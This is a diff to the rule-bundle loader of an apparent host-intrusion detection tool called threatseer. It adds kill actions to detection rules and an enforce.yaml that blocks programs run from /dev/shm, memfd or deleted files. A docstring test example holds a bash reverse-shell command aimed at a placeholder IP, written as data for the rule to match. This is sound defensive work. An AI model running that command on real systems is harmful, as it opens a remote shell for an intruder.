@@ -9,6 +9,7 @@ Layout of a bundle directory::
     sigma/**/*.yml       Sigma rules (with their LICENSE)
     sigma/pipelines/*.yml  pySigma processing pipelines applied after the hub's own
                          (sigma_pipeline.py): field mappings or conditions for your fleet
+    enforce.yaml         exec: execs the sensors' kernels kill before they run (optional)
 
 Rule files may also hold one ``sigma:`` section tuning the Sigma rules to the fleet::
 
@@ -35,6 +36,7 @@ A rule::
           comps: [in, startswith]
           values: [[[borg, restic], /srv/backup/]]
       enabled: true
+      action: kill                       # optional: ask the sensor to kill the process
       tests:
         match: [{event.action: exec, process.command_line: "bash -i >& /dev/tcp/1.2.3.4/9 0>&1"}]
         no_match: [...]
@@ -44,6 +46,22 @@ events, in order: ``match: [[{...}, {...}]]``.
 
 A local layer (``layer: local`` in its manifest) is compiled on top of a base bundle by
 :func:`load_stack`; what it may say is in hub/rules/local_layer.py.
+
+``action: kill`` also goes on Sigma overrides, static risky_processes and sensitive_files
+entries, and sha256 IOCs written as ``HASH: {description: ..., action: kill}``. The hub
+carries it out only for rules its config's ``response.kill_rules`` names (hub/response.py).
+
+enforce.yaml (of the base bundle)::
+
+    exec:
+      - rule: exec_from_dev_shm
+        description: Programs run from /dev/shm
+        prefixes: [/dev/shm/]
+      - rule: fileless_exec
+        description: A memfd or a deleted file executed
+        memfd: true                      # the kinds of executable (default: any file)
+        deleted: true
+        prefixes: [/]                    # default: everywhere
 
 Every problem is collected and reported together, each naming file:line and the rule.
 """
@@ -59,9 +77,11 @@ from typing import Any
 from threatseer.common import __version__, ecs
 from threatseer.hub.rules.archive import Files, content_digest, read_files
 from threatseer.hub.rules.model import (
+    ACTIONS,
     BASE,
     LOCAL,
     Bundle,
+    ExecRule,
     Iocs,
     Layer,
     Manifest,
@@ -81,7 +101,11 @@ from threatseer.hub.rules.yamlfile import BundleError, LineDict, line_of, load_y
 
 PIPELINES_DIR = "sigma/pipelines/"
 RULE_KEYS = {"rule", "description", "condition", "score", "tags", "output", "exceptions",
-             "enabled", "tests"}
+             "enabled", "tests", "action"}
+EXEC_RULE_KEYS = {"rule", "description", "prefixes", "memfd", "deleted", "enabled"}
+# Exec rules may not deny every program of the system: a prefix covering these, for any
+# file, is refused (memfd and deleted files may be denied everywhere).
+_SYSTEM_DIRS = ("/usr/", "/bin/", "/sbin/", "/lib/", "/lib64/", "/etc/", "/opt/")
 EXCEPTION_KEYS = {"name", "fields", "comps", "values"}
 # An exception's comparison operators (Falco's ``comps``): the query language's, less those
 # that make no sense for a value (exists) or could backtrack on event text (regex).
@@ -138,6 +162,17 @@ class _Loader:
             return kind()
         return value
 
+    def action(self, rel: str, doc: Any, rule: str | None = None) -> str:
+        """A mapping's ``action`` ("" when absent), checked."""
+        value = doc.get("action", "") if isinstance(doc, dict) else ""
+        if value in ("", None):
+            return ""
+        if value not in ACTIONS:
+            self.error(rel, line_of(doc), f"action must be one of {', '.join(ACTIONS)}, not "
+                       f"{value!r}", rule)
+            return ""
+        return str(value)
+
     def __init__(self, files: Files, source: str, local_files: Files | None = None,
                  local_source: str = "") -> None:
         self.files = files
@@ -165,6 +200,7 @@ class _Loader:
         # layer's overrides of Sigma rules by name): name or id -> [(rel, override doc)].
         self.sigma_tunes: dict[str, list[tuple[str, LineDict]]] = {}
         self.sigma_excludes: list[tuple[str, int, str]] = []  # (rel, line, condition text)
+        self.ioc_actions: dict[str, str] = {}  # sha256:HASH -> action
         self.sequences: dict[str, SequenceRule] = {}
 
     def where(self, rel: str, line: int = 0) -> str:
@@ -228,7 +264,8 @@ class _Loader:
         for item in self.section(rel, doc, "risky_processes", list):
             try:
                 rp = RiskyProcess(str(item["name"]), str(item.get("reason", "")),
-                                  int(item["score"]), tuple(map(str, item.get("tags") or ())))
+                                  int(item["score"]), tuple(map(str, item.get("tags") or ())),
+                                  self.action(rel, item))
                 risky[rp.name] = rp
             except (KeyError, TypeError, ValueError, AttributeError) as exc:
                 self.error(rel, line_of(item), f"risky_processes: bad entry ({exc})")
@@ -237,12 +274,24 @@ class _Loader:
             try:
                 files.append(SensitiveFile(
                     str(item["glob"]), str(item.get("reason", "")), int(item["read_score"]),
-                    int(item["write_score"]), tuple(map(str, item.get("tags") or ()))))
+                    int(item["write_score"]), tuple(map(str, item.get("tags") or ())),
+                    self.action(rel, item)))
             except (KeyError, TypeError, ValueError, AttributeError) as exc:
                 self.error(rel, line_of(item), f"sensitive_files: bad entry ({exc})")
         iocs_doc = self.section(rel, doc, "iocs", dict)
-        sha = {str(k).lower(): str(v)
-               for k, v in self.section(rel, iocs_doc, "sha256", dict).items()}
+        sha: dict[str, str] = {}
+        for k, v in self.section(rel, iocs_doc, "sha256", dict).items():
+            h = str(k).lower()
+            if isinstance(v, dict):  # {description: ..., action: kill}
+                for key in sorted(set(v) - {"description", "action"}):
+                    self.error(rel, line_of(v, line_of(iocs_doc)), f"iocs.sha256: unknown key "
+                               f"{key!r}")
+                sha[h] = str(v.get("description", ""))
+                action = self.action(rel, v)
+                if action:
+                    self.ioc_actions[f"sha256:{h}"] = action
+            else:
+                sha[h] = str(v)
         for h in sha:
             if not _SHA256.match(h):
                 self.error(rel, line_of(iocs_doc), f"iocs.sha256: not a sha256: {h!r}")
@@ -483,7 +532,8 @@ class _Loader:
             return [CompiledRule(
                 name=name, engine="dynamic", type="query", description=description,
                 score=score, tags=tags, condition=condition, output=output,
-                source=self.where(rel, line), meta={"id": name})]
+                source=self.where(rel, line), meta={"id": name},
+                action=self.action(rel, doc, name))]
         except QueryError as exc:
             self.error(rel, line, f"condition: {exc}", name)
             return []
@@ -587,10 +637,12 @@ class _Loader:
         disabled: set[str] = set()
         for r in rules:
             items = [*tunes.get(r.name, ()), *tunes.get(r.extra.get("sigma_id") or "", ())]
-            enabled, score, suppress = True, r.score, []
+            enabled, score, suppress, action = True, r.score, [], r.action
             for rel, o in items:
                 if "enabled" in o:
                     enabled = bool(o["enabled"])
+                if "action" in o:
+                    action = self.action(rel, o, r.name)
                 if "score" in o:
                     try:
                         score = int(o["score"])
@@ -611,8 +663,55 @@ class _Loader:
             condition = r.condition if exclude is None else conj(r.condition, exclude)
             if suppress:
                 condition = conj(condition, *suppress)
-            out.append(replace(r, condition=condition, score=score))
+            out.append(replace(r, condition=condition, score=score, action=action))
         return out, disabled
+
+    def exec_rules(self) -> list[ExecRule]:
+        rel = "enforce.yaml"
+        if rel not in self.files:
+            return []
+        doc = self.yaml(rel) or {}
+        if not isinstance(doc, dict):
+            self.error(rel, 1, "must be a mapping with exec: [rules]")
+            return []
+        for key in sorted(set(doc) - {"exec"}):
+            self.error(rel, line_of(doc), f"unknown key {key!r}")
+        out = []
+        for item in self.section(rel, doc, "exec", list):
+            line = line_of(item, line_of(doc))
+            name = item.get("rule") if isinstance(item, dict) else None
+            if not isinstance(name, str) or not name:
+                self.error(rel, line, "exec: each rule needs rule: NAME")
+                continue
+            for key in sorted(set(item) - EXEC_RULE_KEYS):
+                self.error(rel, line, f"unknown key {key!r}", name)
+            if not item.get("enabled", True):
+                continue
+            kinds = tuple(k for k in ("memfd", "deleted") if item.get(k)) or ("any",)
+            for key in ("memfd", "deleted"):
+                if not isinstance(item.get(key, False), bool):
+                    self.error(rel, line, f"{key} must be true or false", name)
+            prefixes = item.get("prefixes", ["/"] if kinds != ("any",) else None)
+            if not isinstance(prefixes, list) or not prefixes or len(prefixes) > 64:
+                self.error(rel, line, "prefixes: a list of 1 to 64 absolute path prefixes "
+                           "(required unless memfd or deleted)", name)
+                continue
+            good = True
+            for prefix in prefixes:
+                if (not isinstance(prefix, str) or not prefix.startswith("/")
+                        or len(prefix.encode()) > 256 or "*" in prefix):
+                    self.error(rel, line, f"prefixes: {prefix!r} is not an absolute path of at "
+                               "most 256 bytes without '*'", name)
+                    good = False
+                elif "any" in kinds and any(d.startswith(prefix) or prefix == d.rstrip("/")
+                                            for d in _SYSTEM_DIRS):
+                    self.error(rel, line, f"prefixes: {prefix!r} would deny the system's own "
+                               "programs (allowed for memfd or deleted only)", name)
+                    good = False
+            if good:
+                out.append(ExecRule(name, str(item.get("description", "")).strip(),
+                                    tuple(prefixes), kinds, self.where(rel, line)))
+        return out
 
     def tests(self, known: dict[str, CompiledRule], disabled: set[str]) -> list[RuleTest]:
         out: list[RuleTest] = []
@@ -728,12 +827,25 @@ def _compile(loader: _Loader, manifest: Manifest, static: StaticData, files: Fil
     for name, seq in loader.sequences.items():
         known[name] = next(r for r in rules if getattr(r, "sequence", None) is seq)
     tests = loader.tests(known, disabled)
+    exec_rules = loader.exec_rules()
+    for er in exec_rules:
+        if er.name in known or er.name in seen:
+            loader.errors.append(f"{er.source}: rule {er.name!r}: the name of another rule "
+                                 "(response.kill_rules names rules by their names)")
+    if len({er.name for er in exec_rules}) != len(exec_rules):
+        loader.errors.append(f"{loader.source}/enforce.yaml: exec rule names must be unique")
     if loader.errors:
         raise BundleError(loader.errors)
+    actions = {r.name: r.action for r in (*rules, *sigma_rules) if r.action}
+    actions.update({f"risky_process:{rp.name}": rp.action
+                    for rp in static.risky_processes.values() if rp.action})
+    actions.update({sf.glob: sf.action for sf in static.sensitive_files if sf.action})
+    actions.update(loader.ioc_actions)
     return Bundle(manifest=manifest, static=static,
                   ruleset=IndexedRuleSet([*rules, *sigma_rules]),
                   digest=content_digest(files), source=loader.source,
-                  unsupported=loader.unsupported, tests=tests, local=layer)
+                  unsupported=loader.unsupported, tests=tests, local=layer, actions=actions,
+                  exec_rules=tuple(exec_rules))
 
 
 def manifest_of(files: Files) -> dict[str, Any]:
